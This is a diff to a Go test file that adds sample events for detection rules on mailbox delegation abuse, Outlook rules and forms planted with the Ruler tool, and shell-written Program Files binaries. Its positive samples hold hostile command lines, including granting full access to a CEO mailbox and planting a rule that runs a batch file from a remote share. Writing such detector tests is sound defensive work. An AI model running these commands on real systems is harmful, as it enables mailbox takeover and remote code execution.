@@ -985,6 +985,29 @@ var samplesB10 = []samplePair{
 	},
 }
 
+var samplesB11 = []samplePair{
+	{
+		id:  "61ccd457-edcb-46a4-9e8e-9cb7fdf3b840", // Mailbox Access or Delegate Permission Granted From PowerShell
+		pos: bScript(`Add-MailboxPermission -Identity ceo@corp.local -User mallory -AccessRights FullAccess -InheritanceType All`),
+		neg: bScript(`Get-MailboxPermission -Identity ceo@corp.local | Where-Object { $_.IsInherited -eq $false }`),
+	},
+	{
+		id:  "a6e1bee2-ac2f-4a32-b06f-5f7bb96d5bd2", // Outlook Rule or Form Planted With Ruler
+		pos: bProc(`C:\Users\Public\ruler.exe`, `ruler.exe --email bob@corp.local --username bob add --location "\\\\10.0.0.66\\share\\shell.bat" --trigger "invoice" --name maintenance --send`, imgCmd),
+		neg: bProc(`C:\Users\Public\ruler.exe`, `ruler.exe --email bob@corp.local --username bob display`, imgCmd),
+	},
+	{
+		id:  "b91d3b28-ea02-425e-9f21-2c31d37c898e", // Outlook Custom Form Planted With Ruler
+		pos: bProc(`C:\Users\Public\ruler.exe`, `ruler.exe --email bob@corp.local form add --suffix superduper --input C:\Users\Public\command.txt --send`, imgCmd),
+		neg: bProc(`C:\Users\Public\ruler.exe`, `ruler.exe --email bob@corp.local form display`, imgCmd),
+	},
+	{
+		id:  "e5fb8ac1-43ee-43e5-872f-790f5e567d0e", // Program Files Binary Written by a Shell or Script Host
+		pos: bFile(imgPS, `C:\Program Files\Contoso\Agent\contoso-svc.exe`),
+		neg: bFile(imgMsiexec, `C:\Program Files\Contoso\Agent\contoso-svc.exe`),
+	},
+}
+
 // morePositivesB exercise the other branches of rules with several
 // selections.
 var morePositivesB = []struct {
@@ -1067,7 +1090,7 @@ var moreLookAlikesB = []struct {
 }
 
 func init() {
-	for _, p := range slices.Concat(samplesB, samplesB2, samplesB3, samplesB4, samplesB5, samplesB6, samplesB7, samplesB8, samplesB9, samplesB10) {
+	for _, p := range slices.Concat(samplesB, samplesB2, samplesB3, samplesB4, samplesB5, samplesB6, samplesB7, samplesB8, samplesB9, samplesB10, samplesB11) {
 		rulePositives = append(rulePositives, ruleSample{ID: p.id, Channel: p.pos.channel, EventID: p.pos.eventID, Fields: p.pos.fields})
 		ruleNegatives = append(ruleNegatives, ruleSample{ID: p.id, Channel: p.neg.channel, EventID: p.neg.eventID, Fields: p.neg.fields})
 	}
